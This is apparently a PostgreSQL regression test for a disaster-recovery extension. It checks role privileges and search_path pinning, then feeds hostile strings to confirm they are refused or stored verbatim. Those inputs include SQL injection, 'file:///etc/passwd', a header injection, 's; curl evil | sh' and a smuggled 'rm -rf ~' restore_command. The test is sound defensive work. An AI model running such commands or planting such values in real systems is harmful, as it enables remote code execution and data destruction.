-- Privilege walk: every object of the extension (from pg_depend), what
-- PUBLIC, dr_monitor, dr_operator and dr_admin may do with it, checked
-- against the classification below; SECURITY DEFINER functions pin a safe
-- search_path; hostile strings are stored or refused, never interpreted.
\set SHOW_CONTEXT never

-- The classification: one line per object, named as pg_describe_object()
-- names it.  reader: the least role that may SELECT a table, view or
-- sequence (reading a sequence's position, which pg_dump needs), USAGE a
-- type, EXECUTE a function; writer: the least role that may INSERT, UPDATE
-- and DELETE a table, or USAGE and UPDATE a sequence (take ids from it).  Roles, least first: public,
-- dr_monitor, dr_operator, dr_admin; 'none' = the owner (superuser) only.
-- A NEW OBJECT MUST BE ADDED HERE, or this test fails naming it.
CREATE TEMP TABLE dr_classification (object text PRIMARY KEY, reader text NOT NULL, writer text NOT NULL DEFAULT 'none');
INSERT INTO dr_classification (object, reader, writer) VALUES
-- status, replicas
('function dr_status()',                                    'dr_monitor', 'none'),
('function dr_standby_lag(pg_lsn,pg_lsn)',                  'dr_monitor', 'none'),
('function dr_samples(integer)',                            'dr_monitor', 'none'),
('function dr_replicas_internal()',                         'dr_monitor', 'none'),
('view dr_replicas',                                        'dr_monitor', 'none'),
('view dr_regions',                                         'dr_monitor', 'none'),
-- the standby registry (1.2)
('table dr_standbys',                                       'dr_monitor', 'none'),
('function dr_standby_set(text,text,text)',                 'dr_admin',   'none'),
('function dr_standby_forget(text)',                        'dr_admin',   'none'),
('function dr_streaming_standbys()',                        'none',       'none'),
('function dr_standbys_sync(text,text[],pg_lsn[],pg_lsn[],timestamp with time zone[],boolean)', 'none', 'none'),
('function dr_self_names()',                                'none',       'none'),
('function dr_remembered_standbys()',                       'dr_monitor', 'none'),
('function dr_standby_lag(pg_lsn,pg_lsn,timestamp with time zone)', 'dr_monitor', 'none'),
-- events, journal, lag history
('table dr_event_log',                                      'dr_monitor', 'none'),
('sequence dr_event_log_id_seq',                            'dr_monitor', 'none'),
('table dr_lag_samples',                                    'dr_monitor', 'none'),
('view dr_lag_history',                                     'dr_monitor', 'none'),
('view dr_events',                                          'dr_monitor', 'none'),
('function dr_journal_append(jsonb)',                       'none',       'none'),
('function dr_journal_record(timestamp with time zone,text,integer,boolean,text,jsonb,bigint)', 'none', 'none'),
('function dr_journal_entries(boolean)',                    'dr_monitor', 'none'),
('function dr_journal_flush()',                             'none',       'none'),
('function dr_caller()',                                    'none',       'none'),
('function dr_node_facts()',                                'none',       'none'),
('function dr_incident_at(timestamp with time zone)',       'none',       'none'),
('function dr_can_write()',                                 'none',       'none'),
('function dr_log_event(text,jsonb,integer,boolean,bigint)', 'none',      'none'),
('function dr_record_event(text,jsonb,integer)',            'dr_operator', 'none'),
('function dr_event_type_is_reserved(text)',                'dr_monitor', 'none'),
('function dr_event_details_problem(text,jsonb,integer)',   'none',       'none'),
('function dr_event_payload_fields(jsonb)',                 'none',       'none'),
('table dr_event_rejects',                                  'dr_monitor', 'none'),
('function dr_history_sample(interval)',                    'none',       'none'),
-- 1.2: event counters and retention (extension/1.2/93_counters.sql)
('table dr_event_counters',                                 'dr_monitor', 'none'),
('view dr_event_totals',                                    'dr_monitor', 'none'),
('function dr_count_events()',                              'none',       'none'),
('function dr_housekeep(interval,interval,integer)',        'none',       'none'),
-- incidents
('table dr_incidents',                                      'dr_monitor', 'none'),
('sequence dr_incidents_id_seq',                            'dr_monitor', 'none'),
('function dr_declare(integer,text)',                       'dr_operator', 'none'),
('function dr_declare(integer,text,timestamp with time zone)', 'dr_operator', 'none'),
('function dr_declare_internal(integer,text,timestamp with time zone)', 'none', 'none'),
('function dr_require_incident(bigint)',                    'none',       'none'),
('function dr_acknowledge(bigint,text)',                    'dr_operator', 'none'),
('function dr_objective(text)',                             'none',       'none'),
('function dr_resolve(bigint,text)',                        'dr_operator', 'none'),
('function dr_failback_complete(text,bigint)',              'dr_operator', 'none'),
('function dr_incident_timeline(bigint)',                   'dr_monitor', 'none'),
('function dr_postmortem(bigint)',                          'dr_monitor', 'none'),
-- promotion, fencing
('function dr_promote_check()',                             'dr_operator', 'none'),
('function dr_promote(boolean,integer)',                    'dr_operator', 'none'),
('function dr_wait_for_lag(interval,interval)',             'dr_operator', 'none'),
('function dr_wait_for_lsn(pg_lsn,interval)',               'dr_operator', 'none'),
('function dr_set_fence(boolean)',                          'none',       'none'),
('function dr_fence(text)',                                 'dr_operator', 'none'),
('function dr_unfence()',                                   'dr_operator', 'none'),
-- backups and artifacts
('table dr_backups',                                        'dr_monitor', 'none'),
('sequence dr_backups_id_seq',                              'dr_monitor', 'none'),
('table dr_artifacts',                                      'dr_monitor', 'none'),
('sequence dr_artifacts_id_seq',                            'dr_monitor', 'none'),
('type dr_backup_verification',                             'public',     'none'),
('function dr_verify_backup_internal(text)',                'dr_admin',   'none'),
('function dr_verify_progress()',                           'dr_monitor', 'none'),
('function dr_file_sha256(text)',                           'dr_admin',   'none'),
('function dr_backup_problems_json(dr_backup_verification)', 'dr_admin',  'none'),
('function dr_record_backup_verification(dr_backup_verification,integer)', 'dr_admin', 'none'),
('function dr_verify_backup(text)',                         'dr_admin',   'none'),
('function dr_register_artifact(text,text,jsonb)',          'dr_admin',   'none'),
('function dr_record_artifact_verification(bigint,text)',   'dr_admin',   'none'),
('function dr_verify_artifact(text)',                       'dr_admin',   'none'),
-- pg_dump archives (1.2)
('type dr_dump_verification',                               'public',     'none'),
('function dr_dump_inspect(text)',                          'dr_admin',   'none'),
('function dr_record_dump_verification(dr_dump_verification,text)', 'dr_admin', 'none'),
('function dr_verify_dump(text,text,boolean)',              'dr_admin',   'none'),
-- point-in-time recovery
('table dr_wal_positions',                                  'dr_monitor', 'none'),
('table dr_restore_points',                                 'dr_monitor', 'none'),
('type dr_pitr_plan_row',                                   'public',     'none'),
('function dr_positions_sample(interval)',                  'none',       'none'),
('function dr_current_lsn()',                               'dr_monitor', 'none'),
('function dr_lsn_at(timestamp with time zone)',            'dr_monitor', 'none'),
('function dr_time_at(pg_lsn)',                             'dr_monitor', 'none'),
('function dr_create_restore_point(text)',                  'dr_operator', 'none'),
('function dr_wal_segment_name(pg_lsn,integer)',            'dr_monitor', 'none'),
('function dr_wal_archive_check(pg_lsn,pg_lsn,integer)',    'none',       'none'),
('function dr_conf_quote(text)',                            'dr_monitor', 'none'),
('function dr_wal_archive_history(integer)',                'none',       'none'),
('function dr_pitr_plan_internal(text,timestamp with time zone,pg_lsn,text)', 'none', 'none'),
('function dr_pitr_backup_end_window(dr_backups)', 'none', 'none'),
('function dr_pitr_backup_ends_before(dr_backups,text,timestamp with time zone,pg_lsn,pg_lsn)', 'none', 'none'),
('function dr_pitr_check_wal(dr_pitr_plan_row,dr_backups,pg_lsn)', 'none', 'none'),
('function dr_pitr_choose_backup(dr_pitr_plan_row,text,timestamp with time zone,pg_lsn)', 'none', 'none'),
('function dr_pitr_recovery_conf(dr_pitr_plan_row,dr_backups,text,timestamp with time zone,pg_lsn,text,text)', 'none', 'none'),
('function dr_pitr_refuse_no_backup(dr_pitr_plan_row,text,timestamp with time zone,pg_lsn)', 'none', 'none'),
('function dr_pitr_resolve_target(text,timestamp with time zone,pg_lsn,text)', 'none', 'none'),
('function dr_pitr_wal_ranges(dr_backups,integer,pg_lsn)', 'none', 'none'),
('function dr_pitr_refuse_logical_dump(dr_pitr_plan_row,text,timestamp with time zone,boolean)', 'none', 'none'),
('function dr_pitr_plan_finish(dr_pitr_plan_row,boolean)',  'none',       'none'),
('function dr_pitr_plan(timestamp with time zone,boolean)', 'dr_monitor', 'none'),
('function dr_pitr_plan(pg_lsn,boolean)',                   'dr_monitor', 'none'),
('function dr_pitr_plan(text,boolean)',                     'dr_monitor', 'none'),
('function dr_import_pgbackrest(jsonb)',                    'dr_admin',   'none'),
-- drills
('table dr_drill_kinds',                                    'dr_monitor', 'dr_admin'),
('table dr_drills',                                         'dr_monitor', 'none'),
('sequence dr_drills_id_seq',                               'dr_monitor', 'none'),
('view dr_drill_schedule',                                  'dr_monitor', 'none'),
('function dr_drill_start(text,text)',                      'dr_operator', 'none'),
('function dr_drill_judge(bigint,timestamp with time zone,boolean,numeric,boolean,interval)', 'none', 'none'),
('function dr_schema()',                                    'none',       'none'),
('function dr_drill_finish(bigint,boolean,numeric,boolean,text,interval)', 'dr_operator', 'none'),
('function dr_drill_report(bigint)',                        'dr_monitor', 'none'),
-- notifications
('table dr_webhooks',                                       'dr_admin',   'none'),
('view dr_webhook_channels',                                'dr_monitor', 'none'),
('table dr_notification_templates',                         'dr_monitor', 'dr_admin'),
('table dr_escalation_policy',                              'dr_monitor', 'dr_admin'),
('table dr_outbox',                                         'dr_admin',   'none'),
('sequence dr_outbox_id_seq',                               'dr_monitor', 'none'),
('view dr_notifications',                                   'dr_monitor', 'none'),
('function dr_render(text,jsonb)',                          'none',       'none'),
('function dr_notification_body(jsonb,text,text)',          'none',       'none'),
('function dr_delivery_key(jsonb,text)',                    'none',       'none'),
('function dr_channels_for(jsonb)',                         'none',       'none'),
('function dr_enqueue_notifications()',                     'none',       'none'),
('function dr_delivered_locally(text)',                     'none',       'none'),
('function dr_outbox_due(integer)',                         'none',       'none'),
('function dr_setting_ms(text)',                            'none',       'none'),
('function dr_outbox_result(bigint,boolean,boolean,integer,text)', 'none', 'none'),
('function dr_webhook_retry(integer,interval,boolean)',      'none',       'none'),
('function dr_journal_deliveries()',                        'none',       'none'),
('function dr_notify_housekeeping()',                       'none',       'none'),
('function dr_webhook_check(text,text,text[])',             'none',       'none'),
('function dr_webhook_add(text,text,text,text[])',          'dr_admin',   'none'),
('function dr_webhook_require(text)',                       'none',       'none'),
('function dr_webhook_alter(text,text,text,text[],boolean,boolean)', 'dr_admin', 'none'),
('function dr_webhook_disable(text)',                       'dr_admin',   'none'),
('function dr_webhook_enable(text)',                        'dr_admin',   'none'),
('function dr_webhook_remove(text)',                        'dr_admin',   'none'),
('function dr_webhook_test_enqueue(text)',                  'dr_admin',   'none'),
('function dr_webhook_test(text,interval,text,integer,text)', 'dr_admin', 'none'),
-- 1.1: dashboard views and URL masking
('function dr_mask_url(text)',                              'dr_monitor', 'none'),
('function dr_url_endpoint(text)',                          'dr_monitor', 'none'),
('view dr_node_status',                                     'dr_monitor', 'none'),
('view dr_incident_status',                                 'dr_monitor', 'none'),
('view dr_backup_status',                                   'dr_monitor', 'none'),
('view dr_drill_history',                                   'dr_monitor', 'none'),
('view dr_notification_status',                            'dr_monitor', 'none'),
-- 1.1: wake-ups on commit (a trigger function: callable by no one directly)
('function dr_wake_on_commit()',                            'none',       'none'),
-- 1.2: synchronous replication (extension/1.2/90_sync.sql; a trigger function)
('function dr_commit_locally_trigger()',                    'none',       'none'),
('function dr_sync_status()',                               'dr_monitor', 'none'),
-- 1.2: the WAL archive, replication slots, post-mortems, due events (94_archive_slots.sql)
('function dr_slots_internal()',                            'dr_monitor', 'none'),
('view dr_slots',                                           'dr_monitor', 'none'),
('view dr_postmortem_status',                               'dr_monitor', 'none'),
('function dr_postmortem_written(bigint,text)',             'dr_operator', 'none'),
('function dr_due_events_record()',                         'none',       'none'),
-- 1.1: Prometheus metrics
('view dr_metric_families',                                  'dr_monitor', 'none'),
('function dr_metrics()',                                   'dr_monitor', 'none'),
('function dr_metrics_rows(text)',                          'dr_monitor', 'none'),
-- 1.1: pg_restore of seeded configuration tables (a trigger function)
('function dr_config_replace()',                            'none',       'none'),
-- 1.1: the lag chart
('function dr_lag_chart(timestamp with time zone,timestamp with time zone,integer,integer,integer)', 'dr_monitor', 'none'),
('function dr_postmortem(bigint,boolean)',                  'dr_monitor', 'none'),
('function dr_svg_text(text,integer)',                      'none',       'none'),
('function dr_svg_seconds(numeric)',                        'none',       'none'),
-- 1.2: the lag chart's parts (extension/1.2/30_lag_chart.sql)
('type dr_lag_chart_frame',                                 'public',     'none'),
('function dr_lag_chart_check(timestamp with time zone,timestamp with time zone,integer,integer,integer)', 'none', 'none'),
('function dr_lag_chart_samples(timestamp with time zone,timestamp with time zone)', 'none', 'none'),
('function dr_lag_chart_y_scale(timestamp with time zone,timestamp with time zone,numeric)', 'none', 'none'),
('function dr_lag_chart_y_axis(dr_lag_chart_frame,numeric,text)', 'none', 'none'),
('function dr_lag_chart_x_axis(dr_lag_chart_frame,text)',   'none',       'none'),
('function dr_lag_chart_incidents(dr_lag_chart_frame,integer,text)', 'none', 'none'),
('function dr_lag_chart_objective_line(dr_lag_chart_frame,text,numeric,text)', 'none', 'none'),
('function dr_lag_chart_legend_entry(integer,integer,text,boolean,text)', 'none', 'none'),
('function dr_lag_chart_legend_notes(integer,integer,integer,text,boolean,integer,integer)', 'none', 'none'),
('function dr_lag_chart_paths(dr_lag_chart_frame,text,text,inet,numeric,numeric)', 'none', 'none'),
('function dr_lag_chart_series(dr_lag_chart_frame,integer,numeric,numeric,text[],text[],integer,integer,integer)', 'none', 'none'),
('function dr_lag_chart_svg(dr_lag_chart_frame,integer,integer,text,text,text,text,text,text,text)', 'none', 'none');

CREATE TEMP TABLE dr_role_rank (role text PRIMARY KEY, rank integer NOT NULL);
INSERT INTO dr_role_rank VALUES ('public', 0), ('dr_monitor', 1), ('dr_operator', 2), ('dr_admin', 3), ('none', 99);
GRANT SELECT ON dr_classification, dr_role_rank TO PUBLIC;

-- Every object of the extension, with its class and oid.
CREATE TEMP VIEW dr_ext_objects AS
    SELECT pg_describe_object(d.classid, d.objid, 0) AS object, d.classid, d.objid
      FROM pg_depend d
     WHERE d.refclassid = 'pg_extension'::regclass
       AND d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'tensafe_dr')
       AND d.deptype = 'e';
GRANT SELECT ON dr_ext_objects TO PUBLIC;

-- 1. Every object is classified, and every classification names an object.
SELECT 'UNCLASSIFIED: ' || o.object || ' -- add a line for it to dr_classification in sql/13_privilege_walk.sql and to the privilege table in docs/02-sql-reference.md' AS problem
  FROM dr_ext_objects o LEFT JOIN dr_classification c USING (object)
 WHERE c.object IS NULL
UNION ALL
SELECT 'CLASSIFIED BUT NOT IN THE EXTENSION: ' || c.object
  FROM dr_classification c LEFT JOIN dr_ext_objects o USING (object)
 WHERE o.object IS NULL OR c.reader NOT IN (SELECT role FROM dr_role_rank)
    OR c.writer NOT IN (SELECT role FROM dr_role_rank)
ORDER BY 1;

-- 2. The catalog's privileges, for PUBLIC and each role, match the
--    classification.  Rows here are the mismatches.
WITH checks AS (
    SELECT o.object, r.role, p.privilege,
           CASE WHEN p.privilege = 'USAGE' AND o.classid = 'pg_class'::regclass THEN c.writer
                WHEN p.privilege IN ('SELECT', 'USAGE', 'EXECUTE') THEN c.reader
                WHEN p.privilege IN ('INSERT', 'UPDATE', 'DELETE') THEN c.writer
                ELSE 'none' END AS least_role,
           CASE o.classid
                WHEN 'pg_proc'::regclass THEN has_function_privilege(r.role, o.objid, p.privilege)
                WHEN 'pg_type'::regclass THEN has_type_privilege(r.role, o.objid, p.privilege)
                WHEN 'pg_class'::regclass THEN
                     CASE WHEN (SELECT relkind FROM pg_class WHERE oid = o.objid) = 'S'
                          THEN has_sequence_privilege(r.role, o.objid, p.privilege)
                          ELSE has_table_privilege(r.role, o.objid, p.privilege) END
           END AS granted
      FROM dr_ext_objects o
      JOIN dr_classification c USING (object)
     CROSS JOIN (VALUES ('public'), ('dr_monitor'), ('dr_operator'), ('dr_admin')) r(role)
      JOIN LATERAL (
            SELECT unnest(CASE
                     WHEN o.classid = 'pg_proc'::regclass THEN ARRAY['EXECUTE']
                     WHEN o.classid = 'pg_type'::regclass THEN ARRAY['USAGE']
                     WHEN (SELECT relkind FROM pg_class WHERE oid = o.objid) = 'S' THEN ARRAY['USAGE', 'SELECT', 'UPDATE']
                     ELSE ARRAY['SELECT', 'INSERT', 'UPDATE', 'DELETE', 'TRUNCATE', 'REFERENCES', 'TRIGGER'] END) AS privilege
      ) p ON true
)
SELECT object, role, privilege,
       CASE WHEN granted THEN 'granted' ELSE 'refused' END AS actual,
       'least role: ' || least_role AS expected
  FROM checks k JOIN dr_role_rank rr USING (role)
 WHERE granted IS DISTINCT FROM (rr.rank >= (SELECT rank FROM dr_role_rank x WHERE x.role = k.least_role))
 ORDER BY 1, 2, 3;

-- 3. SECURITY DEFINER functions pin search_path: set, pg_temp last, and no
--    schema on it that PUBLIC or a DR role can create in (or that does not
--    exist, so that someone could create it).  Rows here are the problems.
WITH definer AS (
    SELECT o.object, (SELECT substr(s, 13) FROM unnest(p.proconfig) s WHERE s LIKE 'search\_path=%') AS path
      FROM dr_ext_objects o JOIN pg_proc p ON o.classid = 'pg_proc'::regclass AND p.oid = o.objid
     WHERE p.prosecdef
), entries AS (
    SELECT object, btrim(e, ' "') AS schema, n, count(*) OVER (PARTITION BY object) AS entries
      FROM definer, regexp_split_to_table(path, ',') WITH ORDINALITY AS x(e, n)
)
SELECT object, 'search_path is not pinned (add SET search_path = pg_catalog, pg_temp)' AS problem
  FROM definer WHERE path IS NULL
UNION ALL
SELECT object, 'pg_temp is not last on search_path'
  FROM definer d
 WHERE path IS NOT NULL
   AND NOT EXISTS (SELECT 1 FROM entries e WHERE e.object = d.object AND e.schema = 'pg_temp' AND e.n = e.entries)
UNION ALL
SELECT object, format('search_path names %s, %s', schema,
                      CASE WHEN schema = '$user' THEN 'a schema any role can own'
                           WHEN n.oid IS NULL THEN 'which does not exist (anyone with CREATE on the database could make it)'
                           ELSE 'where ' || (SELECT string_agg(r, ', ') FROM unnest(ARRAY['public', 'dr_monitor', 'dr_operator', 'dr_admin']) r
                                              WHERE has_schema_privilege(r, n.oid, 'CREATE')) || ' can create objects' END)
  FROM entries e LEFT JOIN pg_namespace n ON n.nspname = e.schema
 WHERE e.schema <> 'pg_temp'
   AND (e.schema = '$user' OR n.oid IS NULL
        OR EXISTS (SELECT 1 FROM unnest(ARRAY['public', 'dr_monitor', 'dr_operator', 'dr_admin']) r
                    WHERE has_schema_privilege(r, n.oid, 'CREATE')))
ORDER BY 1, 2;
-- (and there are definer functions to check)
SELECT count(*) >= 27 AS definer_functions_walked
  FROM dr_ext_objects o JOIN pg_proc p ON o.classid = 'pg_proc'::regclass AND p.oid = o.objid
 WHERE p.prosecdef;

-- 4. The privileges in action, for a login role of each kind (and one with
--    no role): SELECT every table, view and sequence, and start the executor
--    on a call of every function (EXPLAIN: the EXECUTE check without running
--    it; the arguments are sub-selects so that nothing is folded away).
--    Rows here are the mismatches.
CREATE FUNCTION pg_temp.try(sql text) RETURNS text
LANGUAGE plpgsql AS $fn$
BEGIN
    EXECUTE sql;
    RETURN 'ok';
EXCEPTION WHEN OTHERS THEN
    RETURN SQLSTATE;
END
$fn$;
CREATE TEMP VIEW dr_exercise AS
    SELECT o.object, c.reader,
           CASE WHEN o.classid = 'pg_class'::regclass
                THEN format('SELECT count(*) FROM %s', o.objid::regclass)
                ELSE format('EXPLAIN (COSTS OFF) SELECT %I(%s)', p.proname,
                            (SELECT string_agg(format('(SELECT NULL::%s)', format_type(t, NULL)), ', ' ORDER BY i)
                               FROM unnest(p.proargtypes) WITH ORDINALITY AS a(t, i))) END AS sql
      FROM dr_ext_objects o
      JOIN dr_classification c USING (object)
      LEFT JOIN pg_proc p ON o.classid = 'pg_proc'::regclass AND p.oid = o.objid
     WHERE o.classid = 'pg_class'::regclass
        OR (o.classid = 'pg_proc'::regclass AND p.prokind = 'f' AND p.prorettype <> 'trigger'::regtype);
GRANT SELECT ON dr_exercise TO PUBLIC;

CREATE ROLE regress_walk_nobody LOGIN;
CREATE ROLE regress_walk_monitor LOGIN IN ROLE dr_monitor;
CREATE ROLE regress_walk_operator LOGIN IN ROLE dr_operator;
CREATE ROLE regress_walk_admin LOGIN IN ROLE dr_admin;

SET ROLE regress_walk_nobody;
SELECT object, got FROM (SELECT object, reader, pg_temp.try(sql) AS got FROM dr_exercise) x
 WHERE got IS DISTINCT FROM CASE WHEN reader = 'public' THEN 'ok' ELSE '42501' END ORDER BY 1;
RESET ROLE;
SET ROLE regress_walk_monitor;
SELECT object, got FROM (SELECT object, reader, pg_temp.try(sql) AS got FROM dr_exercise) x
 WHERE got IS DISTINCT FROM CASE WHEN reader IN ('public', 'dr_monitor') THEN 'ok' ELSE '42501' END ORDER BY 1;
RESET ROLE;
SET ROLE regress_walk_operator;
SELECT object, got FROM (SELECT object, reader, pg_temp.try(sql) AS got FROM dr_exercise) x
 WHERE got IS DISTINCT FROM CASE WHEN reader IN ('public', 'dr_monitor', 'dr_operator') THEN 'ok' ELSE '42501' END ORDER BY 1;
RESET ROLE;
SET ROLE regress_walk_admin;
SELECT object, got FROM (SELECT object, reader, pg_temp.try(sql) AS got FROM dr_exercise) x
 WHERE got IS DISTINCT FROM CASE WHEN reader <> 'none' THEN 'ok' ELSE '42501' END ORDER BY 1;
RESET ROLE;
-- (and the walk did walk)
SELECT count(*) > 100 AS exercised FROM dr_exercise;

-- 5. What each role can and cannot do, for real.
-- dr_monitor reads; it records nothing, declares nothing, configures nothing.
SET ROLE regress_walk_monitor;
SELECT count(*) = 1 AS status_row FROM dr_node_status;
SELECT dr_record_event('WALK_BY_MONITOR');
\echo :SQLSTATE
SELECT dr_declare(1, 'walk: monitor declares');
\echo :SQLSTATE
SELECT dr_fence('walk');
\echo :SQLSTATE
SELECT dr_webhook_add('walk-mon', 'http://127.0.0.1:9/x', 'walk-secret-0123456789');
\echo :SQLSTATE
CALL dr_webhook_test('walk-mon');
\echo :SQLSTATE
SELECT * FROM dr_webhooks;
\echo :SQLSTATE
SELECT * FROM dr_outbox;
\echo :SQLSTATE
INSERT INTO dr_event_log (event_type) VALUES ('FORGED');
\echo :SQLSTATE
RESET ROLE;

-- dr_operator records, declares, resolves, starts drills; it does not
-- configure webhooks, import backups, register artifacts, edit policies
-- or write the tables directly.
SET ROLE regress_walk_operator;
SELECT dr_record_event('WALK_BY_OPERATOR', '{"by": "operator"}') IS NOT NULL AS recorded;
SELECT dr_declare(1, 'walk: operator declares') AS walk_inc \gset
SELECT rto_state FROM dr_resolve(:walk_inc, 'walk');
SELECT dr_webhook_add('walk-op', 'http://127.0.0.1:9/x', 'walk-secret-0123456789');
\echo :SQLSTATE
SELECT dr_webhook_remove('views-hook');
\echo :SQLSTATE
SELECT dr_import_pgbackrest('[]');
\echo :SQLSTATE
SELECT dr_register_artifact('/tmp/x', repeat('a', 64));
\echo :SQLSTATE
UPDATE dr_escalation_policy SET response_time = '1 s';
\echo :SQLSTATE
UPDATE dr_incidents SET summary = 'rewritten' WHERE id = :walk_inc;
\echo :SQLSTATE
DELETE FROM dr_event_log;
\echo :SQLSTATE
SELECT * FROM dr_webhooks;
\echo :SQLSTATE
RESET ROLE;
SELECT actor, details FROM dr_event_log WHERE event_type = 'WALK_BY_OPERATOR';

-- dr_admin configures webhooks and reads their secrets; it still cannot
-- forge or rewrite the record, nor call the internal functions.
SET ROLE regress_walk_admin;
SELECT dr_webhook_add('walk-admin', 'http://127.0.0.1:9/x', 'walk-secret-0123456789', ARRAY['WALK_NONE']);
SELECT name, secret FROM dr_webhooks WHERE name = 'walk-admin';
SELECT dr_webhook_remove('walk-admin');
INSERT INTO dr_event_log (event_type) VALUES ('FORGED');
\echo :SQLSTATE
UPDATE dr_incidents SET rto_state = 'met';
\echo :SQLSTATE
TRUNCATE dr_event_log;
\echo :SQLSTATE
SELECT dr_log_event('FORGED', '{}', NULL, true);
\echo :SQLSTATE
SELECT dr_journal_append('{}');
\echo :SQLSTATE
SELECT * FROM dr_outbox_due(1);
\echo :SQLSTATE
SELECT dr_set_fence(true);
\echo :SQLSTATE
RESET ROLE;

-- PUBLIC: nothing at all.
SET ROLE regress_walk_nobody;
SELECT * FROM dr_status();
\echo :SQLSTATE
SELECT * FROM dr_events;
\echo :SQLSTATE
SELECT dr_caller();
\echo :SQLSTATE
RESET ROLE;

-- 6. Hostile strings.  Event types, channel names and webhook URLs are
--    refused with 22023 unless they are plain; free text (details, summaries,
--    resolutions, notes, restore point names, artifact paths) is stored and
--    returned verbatim, never run or formatted.
CREATE TEMP TABLE hostile (label text, s text);
INSERT INTO hostile VALUES
    ('quote',     $h$it's "quoted"$h$),
    ('sql',       $h$'; DROP TABLE dr_event_log; --$h$),
    ('dollar',    $h$$$ $fn$ $h$),
    ('backslash', E'back\\slash \\x41 \\n'),
    ('semicolon', 'a; SELECT pg_sleep(10);'),
    ('control',   E'tab\there, newline\nthere, bell\u0007, esc\u001b[31m'),
    ('format',    '%s %n %I %L %1$s %%'),
    ('template',  '{{details}} {{start_time}} {{secret}}'),
    ('unicode',   'Ωmega ☃ 日本語 👍 e' || U&'\0301'),
    ('long',      repeat('long ', 400));
GRANT SELECT ON hostile TO PUBLIC;
-- what the calls returned (a statement does not see the rows its own
-- function calls insert, so the checks are separate statements)
CREATE TEMP TABLE hostile_ids (label text, kind text, id bigint, got text);
GRANT SELECT, INSERT ON hostile_ids TO PUBLIC;

SET ROLE regress_walk_operator;
-- as event types: refused
SELECT label, pg_temp.try(format('SELECT dr_record_event(%L)', s)) AS got FROM hostile ORDER BY label;
SELECT pg_temp.try('SELECT dr_record_event(NULL)') AS null_type;
-- as details: stored verbatim
INSERT INTO hostile_ids (label, kind, id)
SELECT label, 'event', dr_record_event('WALK_HOSTILE', jsonb_build_object('v', s, s, 'key')) FROM hostile;
SELECT h.label, e.details->>'v' = h.s AS verbatim, e.details->>h.s = 'key' AS key_verbatim
  FROM hostile h JOIN hostile_ids i ON i.label = h.label AND i.kind = 'event'
  JOIN dr_events e ON e.id = i.id
 ORDER BY h.label;
SELECT count(*) AS hostile_keys_verbatim FROM dr_events e JOIN hostile h ON e.details->>h.s = 'key'
 WHERE e.event_type = 'WALK_HOSTILE';
-- as incident summaries and resolutions: stored verbatim, in the views and
-- the post-mortem as given
INSERT INTO hostile_ids (label, kind, id) SELECT label, 'incident', dr_declare(1, s) FROM hostile;
SELECT count(r.*) AS resolved FROM hostile h JOIN hostile_ids i ON i.label = h.label AND i.kind = 'incident'
 CROSS JOIN LATERAL dr_resolve(i.id, h.s) r;
SELECT h.label, s.summary = h.s AS summary_verbatim, s.resolution = h.s AS resolution_verbatim,
       s.state, strpos(dr_postmortem(s.id), h.s) > 0 AS in_postmortem,
       (SELECT e.details->>'summary' = h.s FROM dr_events e
         WHERE e.incident_id = s.id AND e.event_type = 'DR_INITIATED') AS in_event
  FROM hostile h JOIN hostile_ids i ON i.label = h.label AND i.kind = 'incident'
  JOIN dr_incident_status s ON s.id = i.id
 ORDER BY h.label;
-- as drill notes: verbatim
INSERT INTO hostile_ids (label, kind, id) SELECT label, 'drill', dr_drill_start('tabletop', s) FROM hostile;
SELECT h.label, d.notes = h.s AS verbatim, d.state
  FROM hostile h JOIN hostile_ids i ON i.label = h.label AND i.kind = 'drill'
  JOIN dr_drill_history d ON d.id = i.id
 ORDER BY h.label;
SELECT pg_temp.try(format('SELECT dr_drill_start(%L)', s)) AS as_drill_kind, count(*)
  FROM hostile GROUP BY 1;
-- as restore point names: refused with control characters or over 63
-- bytes, else stored verbatim and recorded as given
INSERT INTO hostile_ids (label, kind, got)
SELECT label, 'restore point', pg_temp.try(format('SELECT dr_create_restore_point(%L)', s)) FROM hostile;
SELECT h.label, i.got,
       (SELECT count(*) FROM dr_restore_points r WHERE r.name = h.s) AS stored,
       (SELECT count(*) FROM dr_events e WHERE e.event_type = 'RESTORE_POINT' AND e.details->>'name' = h.s) AS recorded
  FROM hostile h JOIN hostile_ids i ON i.label = h.label AND i.kind = 'restore point'
 ORDER BY h.label;
RESET ROLE;
-- no drill left running
UPDATE dr_drills SET finished_at = now(), passed = false WHERE finished_at IS NULL;

SET ROLE regress_walk_admin;
-- as channel names and URLs: refused
SELECT label, pg_temp.try(format('SELECT dr_webhook_add(%L, %L, %L)', s, 'http://127.0.0.1:9/x', 'walk-secret-0123456789')) AS as_name,
       pg_temp.try(format('SELECT dr_webhook_add(%L, %L, %L)', 'walk-h', 'http://127.0.0.1:9/' || s, 'walk-secret-0123456789')) AS in_url_path
  FROM hostile ORDER BY label;
SELECT left(regexp_replace(u, '[[:cntrl:]]', '?', 'g'), 30) AS refused_url, pg_temp.try(format('SELECT dr_webhook_add(%L, %L, %L)', 'walk-u', u, 'walk-secret-0123456789')) AS got
  FROM unnest(ARRAY['javascript:alert(1)', 'http://', 'file:///etc/passwd', E'http://h/a\u0001b',
                    'http://h/' || repeat('a', 3000), E'http://h/\r\nX-Injected: 1']) AS u;
-- quotes and semicolons in a URL's query and in the secret are kept as given
SELECT dr_webhook_add('walk-q', $u$https://h.example/p?q='%s';DROP$u$, $s$se'cr"et;$$ \ 0123456789$s$, ARRAY['WALK_NONE']);
SELECT url = $u$https://h.example/p?q='%s';DROP$u$ AS url_verbatim,
       secret = $s$se'cr"et;$$ \ 0123456789$s$ AS secret_verbatim
  FROM dr_webhooks WHERE name = 'walk-q';
SELECT url FROM dr_webhook_channels WHERE name = 'walk-q';
SELECT dr_webhook_remove('walk-q');
-- artifact URIs: credentials refused, anything else verbatim
SELECT dr_register_artifact('s3://AKIAXXX:wJalrXUtnFEMI@bucket/release.tar', repeat('a', 64));
\echo :SQLSTATE
SELECT dr_register_artifact('HTTPS://u:p@h.example/x', repeat('a', 64));
\echo :SQLSTATE
INSERT INTO hostile_ids (label, kind, id) SELECT label, 'artifact', dr_register_artifact(s, repeat('b', 64)) FROM hostile;
SELECT h.label, a.path_or_uri = h.s AS verbatim
  FROM hostile h JOIN hostile_ids i ON i.label = h.label AND i.kind = 'artifact'
  JOIN dr_artifacts a ON a.id = i.id
 ORDER BY h.label;
-- pgBackRest stanza names and labels end up in restore_command: refused
SELECT dr_import_pgbackrest('[{"name": "s; curl evil | sh", "backup": []}]');
\echo :SQLSTATE
SELECT dr_import_pgbackrest('[{"name": "s", "backup": [{"label": "x\n restore_command = ''rm -rf ~''"}]}]');
